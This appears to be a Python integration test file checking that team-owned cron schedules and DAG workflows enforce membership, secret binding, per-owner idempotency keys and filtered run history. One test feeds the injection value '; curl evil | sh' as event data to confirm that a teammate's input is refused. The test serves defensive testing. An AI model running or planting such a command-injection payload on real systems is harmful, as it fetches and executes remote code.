"""Team-owned schedules (cron) and workflows (dag), over real HTTP between the services:
members see and act on them, everyone else gets the 404 of a missing one, only a member
gives work to a team, and the tasks they submit to core are owned by the team."""

from __future__ import annotations

from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import httpx

from tests.fixtures.cron import start_cron
from tests.fixtures.dag import start_dag
from tests.support import TRUE_SHA, Core, wait_for

ARTIFACT = {"uri": "file:///bin/true", "sha256": TRUE_SHA}


def _team(core: Core, name: str, *members: str) -> None:
    with core.client("root", "admin") as root:
        assert root.post("/v1/teams", json={"name": name}).status_code == 201
        for member in members:
            assert root.put(f"/v1/teams/{name}/members/{member}").status_code == 200


@contextmanager
def _sre_dag(core: Core, tmp_path: Path) -> Iterator[tuple[httpx.Client, httpx.Client]]:
    """Team sre of alice and bob, a DAG service, and their clients of it."""
    _team(core, "sre", "alice", "bob")
    dag = start_dag(core, tmp_path / "dag")
    try:
        with dag.client("alice") as alice, dag.client("bob") as bob:
            yield alice, bob
    finally:
        dag.stop()


def _schedule(**overrides) -> dict:
    task = {"name": "nightly", "artifact": ARTIFACT}
    body = {"name": "n", "expression": "@daily", "target": {"kind": "task", "task": task}}
    return {**body, **overrides}


def test_a_member_sees_and_pauses_a_team_schedule_and_others_get_404(
    core: Core, tmp_path: Path, db
) -> None:
    _team(core, "sre", "alice", "bob")
    cron = start_cron(core, tmp_path / "cron")
    try:
        with cron.client("alice") as alice, cron.client("bob") as bob:
            made = alice.post("/v1/schedules", json=_schedule(team="sre"))
            assert made.status_code == 201, made.text
            sid = made.json()["id"]
            assert made.json()["team"] == "sre"
            assert made.json()["target"]["task"]["team"] == "sre"
            mine = alice.post("/v1/schedules", json=_schedule(name="private")).json()["id"]
            # bob, a teammate: lists it (not alice's private one), reads it, pauses it.
            listed = [s["id"] for s in bob.get("/v1/schedules").json()["items"]]
            assert listed == [sid]
            assert bob.get(f"/v1/schedules/{sid}").status_code == 200
            paused = bob.post(f"/v1/schedules/{sid}/pause")
            assert paused.status_code == 200 and paused.json()["paused"] is True
            assert bob.get(f"/v1/schedules/{sid}/fires").status_code == 200
            assert bob.get(f"/v1/schedules/{mine}").status_code == 404
            # Only its owner (or an admin) changes what it runs: bob's target is a 403;
            # the owner's is bound to the team, and to its secrets.
            task = {"name": "t", "artifact": ARTIFACT, "env": {"DB": {"secret": "alices"}}}
            change = {"target": {"kind": "task", "task": task}}
            refused = bob.patch(f"/v1/schedules/{sid}", json=change)
            assert refused.status_code == 403, refused.text
            assert refused.json()["errors"][0]["field"] == "body.target"
            refused = alice.patch(f"/v1/schedules/{sid}", json=change)
            assert refused.status_code == 422, refused.text
            assert refused.json()["errors"][0]["field"] == "body.target.task.env.DB"
            # A fire bob triggers submits the task for alice, owned by the team.
            fired = bob.post(f"/v1/schedules/{sid}/trigger")
            assert fired.status_code == 201, fired.text
            task_id = fired.json()["task_id"]
        with cron.client("mallory") as mallory:
            for verb in ("pause", "resume", "trigger"):
                answer = mallory.post(f"/v1/schedules/{sid}/{verb}")
                missing = mallory.post(f"/v1/schedules/99999999/{verb}")
                assert answer.status_code == missing.status_code == 404
            assert mallory.get(f"/v1/schedules/{sid}").status_code == 404
            assert mallory.patch(f"/v1/schedules/{sid}", json={"name": "x"}).status_code == 404
            assert mallory.delete(f"/v1/schedules/{sid}").status_code == 404
            assert mallory.get("/v1/schedules").json()["items"] == []
            # Only a member gives a schedule to a team: 403 naming the field.
            refused = mallory.post("/v1/schedules", json=_schedule(team="sre"))
            assert refused.status_code == 403
            assert refused.json()["errors"][0]["field"] == "body.team"
    finally:
        cron.stop()
    row = db.execute("SELECT owner, team FROM core.tasks WHERE id = %s", (task_id,)).fetchone()
    assert row == ("alice", "sre")
    assert db.execute("SELECT paused FROM cron.schedules WHERE id = %s", (sid,)).fetchone() == (
        True,
    )


def test_a_team_schedule_may_use_only_the_teams_secrets(core: Core, tmp_path: Path) -> None:
    _team(core, "sre", "alice")
    cron = start_cron(core, tmp_path / "cron")
    try:
        with cron.client("alice") as alice:
            task = {"name": "t", "artifact": ARTIFACT, "env": {"DB": {"secret": "mine"}}}
            target = {"kind": "task", "task": task}
            refused = alice.post("/v1/schedules", json=_schedule(team="sre", target=target))
            assert refused.status_code == 422
            assert refused.json()["errors"][0]["field"] == "body.target.task.env.DB"
            other = {"kind": "task", "task": {**task, "env": {}, "team": "ops"}}
            refused = alice.post("/v1/schedules", json=_schedule(team="sre", target=other))
            assert refused.status_code == 422
            assert refused.json()["errors"][0]["field"] == "body.target.task.team"
            # The task target's own team makes the schedule the team's too.
            own = {"kind": "task", "task": {**task, "env": {}, "team": "sre"}}
            made = alice.post("/v1/schedules", json=_schedule(target=own))
            assert made.status_code == 201 and made.json()["team"] == "sre"
    finally:
        cron.stop()


def _errors(answer) -> tuple[int, str]:
    return answer.status_code, answer.json()["errors"][0]["field"]


def test_only_its_owner_moves_a_schedule_to_a_team_and_back_under_the_teams_rules(
    core: Core, tmp_path: Path, db
) -> None:
    _team(core, "sre", "alice", "bob")
    _team(core, "data", "alice")
    _team(core, "ops", "bob")
    cron = start_cron(core, tmp_path / "cron")
    own_secret = {"name": "t", "artifact": ARTIFACT, "env": {"DB": {"secret": "mine"}}}
    sre_secret = {**own_secret, "env": {"DB": {"secret": "db", "team": "sre"}}}
    try:
        with cron.client("alice") as alice, cron.client("bob") as bob:
            made = alice.post(
                "/v1/schedules", json=_schedule(target={"kind": "task", "task": own_secret})
            )
            sid = made.json()["id"]
            path = f"/v1/schedules/{sid}"
            # Its stored target names alice's own secret: not for a team's schedule.
            assert _errors(alice.patch(path, json={"team": "sre"})) == (
                422,
                "body.target.task.env.DB",
            )
            # Only a member gives it to a team: alice is not in ops.
            assert _errors(alice.patch(path, json={"team": "ops"})) == (403, "body.team")
            # A personal schedule's task names no team of its own.
            tied = {"kind": "task", "task": {**sre_secret, "team": "sre"}}
            assert _errors(alice.patch(path, json={"target": tied})) == (
                422,
                "body.target.task.team",
            )
            target = {"kind": "task", "task": sre_secret}
            moved = alice.patch(path, json={"team": "sre", "target": target})
            assert moved.status_code == 200, moved.text
            assert moved.json()["team"] == "sre"
            assert moved.json()["target"]["task"]["team"] == "sre"
            assert bob.get(path).status_code == 200
            # bob, a teammate, changes it but may not move it: it is alice's to give.
            assert bob.patch(path, json={"name": "renamed"}).status_code == 200
            assert _errors(bob.patch(path, json={"team": "ops"})) == (403, "body.team")
            assert _errors(bob.patch(path, json={"team": None})) == (403, "body.team")
            # To data, its stored target is bound anew: the sre secret does not go along.
            assert _errors(alice.patch(path, json={"team": "data"})) == (
                422,
                "body.target.task.env.DB",
            )
            plain = {"kind": "task", "task": {**sre_secret, "env": {}}}
            moved = alice.patch(path, json={"team": "data", "target": plain})
            assert moved.status_code == 200, moved.text
            assert moved.json()["target"]["task"]["team"] == "data"
            assert bob.get(path).status_code == 404
            fired = alice.post(f"{path}/trigger")
            assert fired.status_code == 201, fired.text
            task_id = fired.json()["task_id"]
            # Back to alice alone: the stored task names no team any more.
            back = alice.patch(path, json={"team": None})
            assert back.status_code == 200, back.text
            assert back.json()["team"] is None
            assert back.json()["target"]["task"]["team"] is None
    finally:
        cron.stop()
    row = db.execute("SELECT owner, team FROM core.tasks WHERE id = %s", (task_id,)).fetchone()
    assert row == ("alice", "data")
    assert db.execute("SELECT team FROM cron.schedules WHERE id = %s", (sid,)).fetchone() == (None,)


def test_a_team_workflows_runs_and_tasks_are_the_teams(core: Core, tmp_path: Path, db) -> None:
    _team(core, "sre", "alice", "bob")
    dag = start_dag(core, tmp_path / "dag")
    try:
        with dag.client("alice") as alice, dag.client("bob") as bob:
            node = {"name": "extract", "task": {"artifact": ARTIFACT}}
            body = {"name": "etl", "team": "sre", "nodes": [node]}
            made = alice.post("/v1/workflows", json=body)
            assert made.status_code == 201, made.text
            assert made.json()["team"] == "sre"
            assert [w["name"] for w in bob.get("/v1/workflows").json()["items"]] == ["etl"]
            assert bob.get("/v1/workflows/etl", params={"owner": "alice"}).status_code == 200
            # bob starts a run of alice's team workflow: the run is alice's and the team's.
            run = bob.post("/v1/workflows/etl/runs", params={"owner": "alice"}, json={})
            assert run.status_code == 201, run.text
            run_id = run.json()["id"]
            assert (run.json()["owner"], run.json()["team"]) == ("alice", "sre")
            assert bob.get(f"/v1/runs/{run_id}").status_code == 200
            assert [r["id"] for r in bob.get("/v1/runs").json()["items"]] == [run_id]

            def released() -> tuple | None:
                return db.execute(
                    "SELECT owner, team FROM core.tasks WHERE labels->>'cairn.dag/run' = %s",
                    (str(run_id),),
                ).fetchone()

            assert wait_for(released, timeout=30) == ("alice", "sre")
        with dag.client("mallory") as mallory:
            assert mallory.get(f"/v1/runs/{run_id}").status_code == 404
            assert mallory.post(f"/v1/runs/{run_id}/cancel").status_code == 404
            assert mallory.get("/v1/runs").json()["items"] == []
            assert mallory.get("/v1/workflows").json()["items"] == []
            shared = mallory.get("/v1/workflows/etl", params={"owner": "alice"})
            assert shared.status_code == 404
            started = mallory.post("/v1/workflows/etl/runs", params={"owner": "alice"}, json={})
            assert started.status_code == 404
            refused = mallory.post("/v1/workflows", json={**body, "name": "mine"})
            assert refused.status_code == 403
            assert refused.json()["errors"][0]["field"] == "body.team"
        with dag.client("bob") as bob:
            cancelled = bob.post(f"/v1/runs/{run_id}/cancel")
            assert cancelled.status_code == 200, cancelled.text
    finally:
        dag.stop()


def test_a_teammates_idempotency_key_neither_finds_nor_takes_the_owners_runs(
    core: Core, tmp_path: Path, db
) -> None:
    """Run keys are unique per owner: a teammate starting a run of alice's team workflow
    with a key alice used for her private workflow got that private run back (its
    params, its workflow); and a key the teammate used first (cron's, which are
    predictable: ``cron:SCHEDULE:SLOT``) answered alice's own later run with the
    teammate's run of another workflow, so hers never ran."""
    with _sre_dag(core, tmp_path) as (alice, bob):
        node = {"name": "extract", "task": {"artifact": ARTIFACT}}
        shared = {"name": "etl", "team": "sre", "nodes": [node]}
        private = {"name": "payroll", "params": {"account": "x"}, "nodes": [node]}
        assert alice.post("/v1/workflows", json=shared).status_code == 201
        assert alice.post("/v1/workflows", json=private).status_code == 201
        mine = alice.post(
            "/v1/workflows/payroll/runs",
            json={"idempotency_key": "nightly", "params": {"account": "CH93-0000"}},
        )
        assert mine.status_code == 201, mine.text
        # bob's key is his own: alice's private run is not what it finds.
        theirs = {"owner": "alice"}
        run = bob.post("/v1/workflows/etl/runs", params=theirs, json={"idempotency_key": "nightly"})
        assert run.status_code == 201, run.text
        assert run.json()["workflow"] == "etl" and run.json()["id"] != mine.json()["id"]
        assert "CH93-0000" not in run.text
        again = bob.post(
            "/v1/workflows/etl/runs", params=theirs, json={"idempotency_key": "nightly"}
        )
        assert (again.status_code, again.json()["id"]) == (200, run.json()["id"])
        # A key bob takes first is not alice's: her run of it is her own, of her workflow.
        taken = bob.post(
            "/v1/workflows/etl/runs",
            params={"owner": "alice"},
            json={"idempotency_key": "cron:7:2026-12-07T00:00:00+00:00"},
        )
        assert taken.status_code == 201, taken.text
        hers = alice.post(
            "/v1/workflows/payroll/runs",
            json={"idempotency_key": "cron:7:2026-12-07T00:00:00+00:00"},
        )
        assert hers.status_code == 201, hers.text
        assert hers.json()["workflow"] == "payroll"
        # A key names one run: of another workflow, it is a 409, not that run.
        other = alice.post("/v1/workflows/etl/runs", json={"idempotency_key": "nightly"})
        assert other.status_code == 409, other.text
        assert other.json()["errors"][0]["field"] == "body.idempotency_key"
        assert "CH93-0000" not in other.text
    runs = db.execute("SELECT workflow, count(*) FROM dag.runs GROUP BY 1 ORDER BY 1").fetchall()
    assert runs == [("etl", 2), ("payroll", 2)]


def test_a_teammate_signals_a_team_run_but_chooses_no_data_its_tasks_read(
    core: Core, tmp_path: Path, db
) -> None:
    """An event's data become the waiting node's outputs, which the nodes after it read
    into their tasks' arguments, run as the workflow's owner: a teammate's data were a
    teammate's arguments run as the owner, which a run's params may not be either."""
    with _sre_dag(core, tmp_path) as (alice, bob):
        wait = {"name": "wait", "event": {"name": "go", "timeout_s": 3600}}
        wait["outputs"] = {"ref": {"required": False}}
        after = {"name": "deploy", "depends_on": ["wait"]}
        after["task"] = {"artifact": ARTIFACT, "args": ["{{ nodes.wait.outputs.ref }}"]}
        body = {"name": "release", "team": "sre", "nodes": [wait, after]}
        assert alice.post("/v1/workflows", json=body).status_code == 201
        run = bob.post("/v1/workflows/release/runs", params={"owner": "alice"}, json={})
        assert run.status_code == 201, run.text
        path = f"/v1/runs/{run.json()['id']}/events/go"
        refused = bob.post(path, json={"data": {"ref": "; curl evil | sh"}})
        assert refused.status_code == 403, refused.text
        assert refused.json()["errors"][0]["field"] == "body.data"
        assert db.execute("SELECT count(*) FROM dag.run_events").fetchone() == (0,)
        # A signal without data is a teammate's to send; the owner's data are hers.
        assert bob.post(path, json={}).status_code == 201
        assert alice.post(f"{path}-not-waited", json={}).status_code == 404
    kept = db.execute("SELECT name, data, sent_by FROM dag.run_events").fetchall()
    assert kept == [("go", {}, "bob")]


def test_a_shared_workflows_history_shows_a_member_only_the_teams_runs(
    core: Core, tmp_path: Path, db
) -> None:
    """A workflow's history listed every run of its name: a member of the team it is
    shared with now saw the runs from before it was (their ids, states, node names and
    timings), which the member may not read one by one."""
    with _sre_dag(core, tmp_path) as (alice, bob):
        node = {"name": "extract", "task": {"artifact": ARTIFACT}}
        assert alice.post("/v1/workflows", json={"name": "etl", "nodes": [node]}).is_success
        private = alice.post("/v1/workflows/etl/runs", json={}).json()["id"]
        shared = {"name": "etl", "team": "sre", "nodes": [node]}
        assert alice.post("/v1/workflows", json=shared).status_code == 201
        team_run = alice.post("/v1/workflows/etl/runs", json={}).json()["id"]
        assert bob.get(f"/v1/runs/{private}").status_code == 404
        seen = bob.get("/v1/workflows/etl/history", params={"owner": "alice"})
        assert seen.status_code == 200, seen.text
        assert [r["id"] for r in seen.json()["runs"]] == [team_run]
        own = alice.get("/v1/workflows/etl/history").json()
        assert [r["id"] for r in own["runs"]] == [private, team_run]
    assert db.execute("SELECT count(*) FROM dag.runs").fetchone() == (2,)
